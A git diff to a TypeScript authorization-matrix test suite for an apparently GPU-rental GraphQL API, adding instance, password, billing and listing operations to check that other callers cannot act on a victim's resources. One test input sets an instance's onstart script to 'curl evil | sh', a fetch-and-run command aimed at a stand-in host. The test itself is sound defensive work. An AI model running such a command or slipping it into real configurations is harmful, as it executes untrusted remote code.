@@ -8,6 +8,7 @@ import type { ApiKeyPermission } from "../prisma/generated/client/client.ts";
 import { postEntry } from "../domain/billing/ledger.ts";
 import { prisma } from "../infra/db.ts";
 import { useTestApp } from "./support/app.ts";
+import { databaseSnapshot } from "./support/snapshot.ts";
 import { CREATE_INSTANCE, createAccount, createListedMachine, instanceInput, unwrap } from "./support/rentals.ts";
 
 /**
@@ -44,19 +45,6 @@ const machineSpecs = {
   cudaMaxGood: 12.4, driverVersion: "550.54.15", countryCode: "DE", geolocation: "Frankfurt, DE", datacenter: false,
 };
 const callers: Record<string, string | undefined> = {};
-
-async function databaseSnapshot(): Promise<string> {
-  const tables = await prisma.$queryRaw<{ tablename: string }[]>`
-    SELECT tablename FROM pg_tables WHERE schemaname = 'public' AND tablename <> 'schema_migrations' ORDER BY tablename`;
-  const dump: Record<string, unknown[]> = {};
-  for (const { tablename } of tables) {
-    const rows = await prisma.$queryRawUnsafe<Record<string, unknown>[]>(`SELECT * FROM "${tablename}" ORDER BY 1`);
-    // Authenticating a key stamps its last use (and moves a session's expiry); that is bookkeeping,
-    // not a change by the caller.
-    dump[tablename] = rows.map(({ last_used_at: _used, ...row }) => (row.scope === "SESSION" ? { ...row, expires_at: null } : row));
-  }
-  return JSON.stringify(dump, (_key, value) => (typeof value === "bigint" ? value.toString() : value));
-}
 
 function sshPublicKey(): string {
   const { publicKey } = generateKeyPairSync("ed25519");
@@ -152,6 +140,15 @@ const operations: {
   { name: "stopInstance", needs: "INSTANCES", document: `mutation ($id: ID!) { ${result("stopInstance(id: $id)", "MutationStopInstanceSuccess")} }`, variables: () => ({ id: ids.instance }), allowedFor: ["victim instance key"] },
   { name: "startInstance", needs: "INSTANCES", document: `mutation ($id: ID!) { ${result("startInstance(id: $id)", "MutationStartInstanceSuccess")} }`, variables: () => ({ id: ids.instance }), allowedFor: ["victim instance key"] },
   { name: "destroyInstance", needs: "INSTANCES", document: `mutation ($id: ID!) { ${result("destroyInstance(id: $id)", "MutationDestroyInstanceSuccess")} }`, variables: () => ({ id: ids.instance }), allowedFor: ["victim instance key"] },
+  { name: "rebootInstance", needs: "INSTANCES", document: `mutation ($id: ID!) { ${result("rebootInstance(id: $id)", "MutationRebootInstanceSuccess")} }`, variables: () => ({ id: ids.instance }), allowedFor: ["victim instance key"] },
+  { name: "recycleInstance", needs: "INSTANCES", document: `mutation ($id: ID!) { ${result("recycleInstance(id: $id)", "MutationRecycleInstanceSuccess")} }`, variables: () => ({ id: ids.instance }), allowedFor: ["victim instance key"] },
+  {
+    name: "updateInstance",
+    needs: "INSTANCES",
+    document: `mutation ($id: ID!) { ${result('updateInstance(id: $id, input: { onstart: "curl evil | sh" })', "MutationUpdateInstanceSuccess")} }`,
+    variables: () => ({ id: ids.instance }),
+    allowedFor: ["victim instance key"],
+  },
   { name: "labelInstance", needs: "INSTANCES", document: `mutation ($id: ID!) { ${result('labelInstance(id: $id, label: "pwned")', "MutationLabelInstanceSuccess")} }`, variables: () => ({ id: ids.instance }) },
   { name: "changeBid", needs: "INSTANCES", document: `mutation ($id: ID!) { ${result('changeBid(instanceId: $id, pricePerGpuHour: "5.00")', "MutationChangeBidSuccess")} }`, variables: () => ({ id: ids.instance }) },
   { name: "deleteTemplate", needs: "INSTANCES", document: `mutation ($id: ID!) { ${result("deleteTemplate(id: $id)", "MutationDeleteTemplateSuccess")} }`, variables: () => ({ id: ids.template }) },
@@ -172,6 +169,15 @@ const operations: {
     document: `query ($id: ID!, $from: DateTime!, $to: DateTime!) { earnings(machineId: $id, from: $from, to: $to) { machineId } }`,
     variables: () => ({ id: ids.machine, ...lastWeek() }),
   },
+  { name: "requestEmailVerification", document: `mutation { ${result("requestEmailVerification", "MutationRequestEmailVerificationSuccess")} }`, variables: () => ({}), needs: "KEYS", forCaller: true },
+  {
+    name: "changePassword",
+    document: `mutation { ${result('changePassword(currentPassword: "x", newPassword: "a new password")', "MutationChangePasswordSuccess")} }`,
+    variables: () => ({}),
+    needs: "KEYS",
+    forCaller: true,
+  },
+  { name: "addCard", document: `mutation { ${result("addCard", "MutationAddCardSuccess")} }`, variables: () => ({}), needs: "BILLING", forCaller: true },
   { name: "createApiKey", document: `mutation { ${result('createApiKey(name: "x")', "MutationCreateApiKeySuccess")} }`, variables: () => ({}), needs: "KEYS", forCaller: true },
   {
     name: "addSshKey",
@@ -212,6 +218,8 @@ const RECENT = `from: "${lastWeek().from}", to: "${lastWeek().to}"`;
 /** Queries that list "my" things: for any other caller they must fail or show none of the victim's. */
 const listings = [
   "{ me { id email } }",
+  "{ spendLimit { tier currentPerHour } }",
+  "{ sessions { id name } }",
   "{ apiKeys { id name } }",
   "{ sshKeys { id fingerprint } }",
   "{ myMachines { id } }",
@@ -303,7 +311,7 @@ describe("authorization matrix", () => {
     const readOnly = callers["victim READ key"];
     const listed = JSON.stringify(await app.gql("{ instances(first: 50) { edges { node { id } } } }", {}, readOnly));
     expect(listed).toContain(ids.instance);
-    expect(JSON.stringify(await app.gql(listings[3], {}, readOnly))).toContain(ids.machine);
+    expect(JSON.stringify(await app.gql(listings.find((q) => q.includes("myMachines"))!, {}, readOnly))).toContain(ids.machine);
     const rent = operations.find((o) => o.name === "createInstance")!;
     const before = await databaseSnapshot();
     const refused = await app.gql(rent.document, rent.variables(), readOnly);
@@ -314,7 +322,7 @@ describe("authorization matrix", () => {
   it("the victim's own account key does succeed (the matrix is not vacuous)", async () => {
     const response = await app.gql(operations.find((o) => o.name === "labelInstance")!.document, { id: ids.instance }, victim.key);
     expect(response.data.labelInstance.__typename).toBe("MutationLabelInstanceSuccess");
-    const listed = JSON.stringify(await app.gql(listings[3], {}, victim.key));
+    const listed = JSON.stringify(await app.gql(listings.find((q) => q.includes("myMachines"))!, {}, victim.key));
     expect(listed).toContain(ids.machine);
     const invoices = JSON.stringify(await app.gql(listings.find((q) => q.includes("invoices"))!, {}, victim.key));
     expect(invoices).toContain(VICTIM_CREDIT);
